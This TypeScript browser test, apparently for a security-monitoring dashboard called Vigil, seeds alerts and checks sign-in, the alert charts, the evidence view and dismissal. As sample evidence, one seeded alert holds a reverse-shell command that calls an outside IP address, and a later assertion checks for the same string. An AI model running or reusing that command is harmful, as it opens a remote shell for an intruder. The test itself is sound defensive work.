import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import type { FastifyInstance } from 'fastify';
import { openSqliteStore, type Store } from '@vigil/storage';
import { createApi, TokenStore } from '@vigil/server';
import { browserAvailable, launchBrowser, watchConsole } from './browser.js';
import { buildDashboard } from './build-dashboard.js';

const SCREENSHOTS = join(process.cwd(), 'test-results', 'dashboard');
const run = browserAvailable();

describe.runIf(run)('dashboard in a real browser', () => {
  let dir: string;
  let store: Store;
  let api: FastifyInstance;
  let baseUrl: string;
  let adminToken: string;
  let browser: Browser;
  let page: Page;
  let consoleErrors: string[];

  beforeAll(async () => {
    const dashboard = await buildDashboard();
    dir = await mkdtemp(join(tmpdir(), 'vigil-dashboard-'));
    store = await openSqliteStore({ dataDir: dir });
    const tokens = await TokenStore.open(dir);
    adminToken = (await tokens.create('admin', 'browser test')).token;
    const now = Date.now();
    await store.alerts.raise({
      typeId: 'Vigil_ReverseShell',
      deviceId: 'router-yard',
      key: '/bin/bash',
      occurrenceId: 'seed-1',
      severity: 'high',
      title: 'Reverse shell',
      at: now - 60_000,
      evidence: { commandLine: 'bash -i >& /dev/tcp/45.155.205.99/4444 0>&1', userName: 'www-data' },
      remediation: ['Kill the process and its parent.'],
    });
    await store.alerts.raise({
      typeId: 'Vigil_FailedBruteForce',
      deviceId: 'kiosk-lobby',
      key: '45.155.205.7',
      occurrenceId: 'seed-2',
      severity: 'low',
      title: 'Failed brute force attempt',
      at: now - 3 * 3600_000,
    });
    api = await createApi({ store, tokens, dashboardDirectory: dashboard });
    baseUrl = await api.listen({ port: 0, host: '127.0.0.1' });
    browser = await launchBrowser();
    page = await browser.newPage({ viewport: { width: 1280, height: 900 } });
    consoleErrors = watchConsole(page);
    await mkdir(SCREENSHOTS, { recursive: true });
  }, 120_000);

  afterAll(async () => {
    await browser?.close();
    await api?.close();
    await store?.close();
    if (dir !== undefined) await rm(dir, { recursive: true, force: true });
  });

  it('refuses a wrong token, then signs in and shows the overview chart with the seeded alerts', async () => {
    await page.goto(baseUrl);
    await page.getByLabel('API token').fill('vgl_not-a-token');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('alert').filter({ hasText: 'not valid' }).waitFor();
    // A refused token shows up as a 401 in the console; that one is expected.
    consoleErrors.splice(0);
    await page.getByLabel('API token').fill(adminToken);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByRole('heading', { name: 'Fleet overview' }).waitFor();
    await page.getByRole('img', { name: /Alerts per hour/ }).waitFor();
    expect(await page.getByTestId('chart-bar').count()).toBe(24);
    expect(await page.locator('rect.bar').count()).toBe(2);
    expect(await page.getByText('router-yard').count()).toBeGreaterThan(0);
    await page.screenshot({ path: join(SCREENSHOTS, 'overview.png'), fullPage: true });
    expect(consoleErrors).toEqual([]);
  });

  it('opens an alert from the list, shows its evidence and remediation, and dismisses it', async () => {
    await page.getByRole('link', { name: 'Alerts', exact: true }).click();
    await page.getByRole('link', { name: 'Reverse shell' }).click();
    await page.getByTestId('evidence').first().waitFor();
    expect(await page.getByTestId('evidence').first().textContent()).toContain('/dev/tcp/45.155.205.99/4444');
    expect(await page.getByText('Kill the process and its parent.').count()).toBe(1);
    await page.screenshot({ path: join(SCREENSHOTS, 'alert.png'), fullPage: true });
    await page.getByLabel('Note').fill('pen test window');
    await page.getByRole('button', { name: 'Dismiss' }).click();
    await page.getByTestId('alert-status').filter({ hasText: 'dismissed' }).waitFor();
    expect(await page.getByText('dismissed by admin: pen test window').count()).toBe(1);
    const stored = await store.alerts.list({ status: 'dismissed' });
    expect(stored.map((alert) => alert.typeId)).toEqual(['Vigil_ReverseShell']);
    await page.screenshot({ path: join(SCREENSHOTS, 'alert-dismissed.png'), fullPage: true });
    expect(consoleErrors).toEqual([]);
  });

  it('shows a designed empty state when no alert matches', async () => {
    await page.goto(`${baseUrl}/#/alerts?severity=medium`);
    await page.getByText('No alerts match these filters').waitFor();
    await page.screenshot({ path: join(SCREENSHOTS, 'alerts-empty.png'), fullPage: true });
    expect(consoleErrors).toEqual([]);
  });
});
